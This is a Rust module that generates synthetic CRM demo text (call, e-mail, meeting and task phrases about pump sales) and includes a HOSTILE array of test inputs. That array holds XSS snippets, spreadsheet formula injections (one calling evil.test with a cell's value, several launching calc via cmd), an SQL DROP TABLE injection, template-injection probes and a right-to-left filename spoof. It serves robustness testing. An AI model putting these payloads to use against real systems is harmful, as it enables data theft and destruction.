//! Long texts that are written out only when somebody asks: subjects, bodies and notes, among them
//! the hostile ones that a product has to show without obeying.

/// The competitors that the demo portal's people talk about. Index 0 is "nobody".
pub(crate) const COMPETITORS: [&str; 5] = ["", "Kranwerk", "Pumpify", "Nordhydro", "Valvero"];

/// What kind of text to write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub(crate) enum PhraseKind {
    /// Title of a call.
    CallTitle,
    /// What was said in a call.
    CallBody,
    /// Subject of an e-mail.
    EmailSubject,
    /// Plain text of an e-mail.
    EmailText,
    /// The same e-mail as HTML.
    EmailHtml,
    /// Title of a meeting.
    MeetingTitle,
    /// Agenda of a meeting.
    MeetingBody,
    /// A note.
    NoteBody,
    /// Subject of a task.
    TaskSubject,
    /// What to do.
    TaskBody,
    /// A text that tries to be something else: markup, a formula, another script's direction.
    Hostile,
    /// Ten thousand characters.
    Long,
}

const KINDS: [PhraseKind; 12] = [
    PhraseKind::CallTitle,
    PhraseKind::CallBody,
    PhraseKind::EmailSubject,
    PhraseKind::EmailText,
    PhraseKind::EmailHtml,
    PhraseKind::MeetingTitle,
    PhraseKind::MeetingBody,
    PhraseKind::NoteBody,
    PhraseKind::TaskSubject,
    PhraseKind::TaskBody,
    PhraseKind::Hostile,
    PhraseKind::Long,
];

/// A text not yet written out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Phrase {
    /// What kind of text.
    pub kind: PhraseKind,
    /// Index into [`COMPETITORS`]; the text names this competitor unless it is 0.
    pub competitor: u8,
    /// Chooses among the texts of this kind.
    pub seed: u32,
}

/// Texts that have broken lists, spreadsheets and pages before.
pub(crate) const HOSTILE: [&str; 10] = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"window.__owned=1\">",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "🚀🔥 deal of the 年 👩‍👩‍👧‍👦",
    "שלום עולם \u{202e}txt.exe",
    "'; DROP TABLE records; --",
    "{{constructor.constructor('return 1')()}} ${7*7} %s %n",
];

impl Phrase {
    /// Packs the phrase for a cell.
    pub(crate) fn bits(self) -> i64 {
        i64::from(self.seed) | i64::from(self.competitor) << 32 | (self.kind as i64) << 40
    }

    /// Restores what [`Phrase::bits`] packed.
    #[allow(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "undoes `bits`"
    )]
    pub(crate) fn from_bits(bits: i64) -> Self {
        let kind = KINDS.get((bits >> 40) as usize & 0xff).copied();
        Self {
            kind: kind.unwrap_or(PhraseKind::NoteBody),
            competitor: (bits >> 32) as u8,
            seed: bits as u32,
        }
    }

    /// The text itself.
    pub(crate) fn write(self) -> String {
        let mut text = match self.kind {
            PhraseKind::CallTitle => self.pick(0, &CALL_TITLES).to_owned(),
            PhraseKind::EmailSubject => self.pick(0, &EMAIL_SUBJECTS).to_owned(),
            PhraseKind::MeetingTitle => self.pick(0, &MEETING_TITLES).to_owned(),
            PhraseKind::TaskSubject => self.pick(0, &TASK_SUBJECTS).to_owned(),
            PhraseKind::EmailHtml => format!(
                "<div dir=\"auto\"><p>{}</p><p>{}</p></div>",
                self.pick(0, &OPENINGS),
                self.pick(1, &MIDDLES)
            ),
            PhraseKind::Hostile => HOSTILE[self.seed as usize % HOSTILE.len()].to_owned(),
            PhraseKind::Long => return self.long(),
            PhraseKind::CallBody
            | PhraseKind::EmailText
            | PhraseKind::MeetingBody
            | PhraseKind::NoteBody
            | PhraseKind::TaskBody => format!(
                "{} {} {}",
                self.pick(0, &OPENINGS),
                self.pick(1, &MIDDLES),
                self.pick(2, &ENDINGS)
            ),
        };
        if let Some(name) = COMPETITORS
            .get(usize::from(self.competitor))
            .filter(|n| !n.is_empty())
        {
            text.push(' ');
            text.push_str(&self.pick(3, &MENTIONS).replace("{}", name));
        }
        text
    }

    /// One of the choices; `place` tells the sentences of one text apart.
    fn pick<'a>(self, place: u32, choices: &[&'a str]) -> &'a str {
        let mixed = (self.seed ^ place.wrapping_mul(0x9e37_79b9)).wrapping_mul(0x85eb_ca6b) >> 8;
        choices[mixed as usize % choices.len()]
    }

    /// Ten thousand characters, not bytes: umlauts and emoji are among them.
    fn long(self) -> String {
        let sentence = format!(
            "{} Grüße 🛠 {} ",
            self.pick(0, &OPENINGS),
            self.pick(1, &MIDDLES)
        );
        sentence.chars().cycle().take(10_000).collect()
    }
}

const CALL_TITLES: [&str; 6] = [
    "Discovery call",
    "Follow-up call",
    "Pricing question",
    "Call with procurement",
    "Technical questions",
    "Check-in",
];
const EMAIL_SUBJECTS: [&str; 8] = [
    "Your offer",
    "Re: your offer",
    "Next steps",
    "Re: next steps",
    "Data sheet and drawings",
    "Meeting summary",
    "Delivery dates",
    "Contract draft",
];
const MEETING_TITLES: [&str; 5] = [
    "First meeting",
    "Product demonstration",
    "Site visit",
    "Offer review",
    "Contract talk",
];
const TASK_SUBJECTS: [&str; 5] = [
    "Send the offer",
    "Call back",
    "Prepare the demo",
    "Ask for the drawings",
    "Chase signature",
];
const OPENINGS: [&str; 8] = [
    "Spoke about the pump line in hall two.",
    "They want to replace two units before winter.",
    "Budget is planned for next quarter.",
    "The plant manager joined for the first time.",
    "Asked for a second site to be included.",
    "Reviewed the drawings together.",
    "They compared our service contract with the present one.",
    "Short talk, they are in the middle of an audit.",
];
const MIDDLES: [&str; 8] = [
    "Energy use matters more than the price.",
    "Procurement wants three offers.",
    "Delivery within eight weeks is a must.",
    "They like the remote monitoring.",
    "Their engineer is not convinced of the seals yet.",
    "Training of the operators has to be included.",
    "The board decides at the end of the month.",
    "They asked for a reference in their industry.",
];
const ENDINGS: [&str; 6] = [
    "Send the offer by Friday.",
    "Call again in two weeks.",
    "Next meeting is on site.",
    "Waiting for their feedback.",
    "No further steps agreed.",
    "They will send the load profile.",
];
const MENTIONS: [&str; 4] = [
    "They also talk to {}.",
    "{} was there last week.",
    "An offer from {} is on the table.",
    "Their present supplier is {}.",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phrases_survive_packing() {
        for kind in KINDS {
            let phrase = Phrase {
                kind,
                competitor: 3,
                seed: u32::MAX - 5,
            };
            assert_eq!(Phrase::from_bits(phrase.bits()), phrase);
        }
    }

    #[test]
    fn a_mention_names_the_competitor_and_long_is_ten_thousand() {
        let note = Phrase {
            kind: PhraseKind::NoteBody,
            competitor: 1,
            seed: 9,
        };
        assert!(note.write().contains("Kranwerk"));
        let long = Phrase {
            kind: PhraseKind::Long,
            competitor: 0,
            seed: 9,
        };
        assert_eq!(long.write().chars().count(), 10_000);
    }
}
